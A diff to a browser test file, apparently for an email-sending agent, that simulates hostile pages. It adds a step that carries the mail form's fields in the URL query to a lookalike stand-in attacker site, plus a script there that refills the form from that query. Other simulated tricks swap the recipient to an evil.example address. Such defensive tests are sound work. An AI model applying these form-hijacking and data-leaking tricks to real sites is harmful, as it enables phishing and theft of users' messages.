@@ -5,6 +5,10 @@ import { startPlainSite } from '../../support/plain-site.ts';
 import { allowOnce, type Ordered, orderMail, sentTo, webmail } from '../../support/webmail.ts';
 
 const FOX = 't.fox@evil.example';
+/** Puts the mail that stood on the page before into the form of this one. */
+const TAKES_OVER = `<script>
+  for (const [name, value] of new URLSearchParams(location.search)) document.querySelector('[name=' + name + ']').value = value;
+</script>`;
 let job: Job;
 let evil: Awaited<ReturnType<typeof startPlainSite>>;
 let world: Ordered | undefined;
@@ -13,7 +17,7 @@ beforeAll(async () => {
 });
 afterAll(() => job.close());
 beforeEach(async () => {
-  evil = await startPlainSite({ '/inbox': webmail(), '/sent': 'Sent' });
+  evil = await startPlainSite({ '/inbox': webmail() + TAKES_OVER, '/sent': 'Sent' });
 });
 afterEach(async () => {
   await world?.close();
@@ -60,7 +64,11 @@ const DEEDS: Record<string, (evil: string) => void> = {
     other.querySelector('input')?.focus();
   },
   'takes the form away': () => document.forms[0]?.remove(),
-  'goes on to a page of another site that looks the same': (evil) => location.assign(`${evil}/inbox`),
+  'goes on to a page of another site that looks the same': (evil) => {
+    const [form] = document.forms;
+    const mail = form ? [...new FormData(form)].map(([name, value]) => [name, String(value)]) : [];
+    location.assign(`${evil}/inbox?${new URLSearchParams(mail)}`);
+  },
   'is written anew for another recipient': () => {
     const html = document.body.innerHTML.replace('name="to"', 'name="to" value="t.fox@evil.example"');
     document.open();
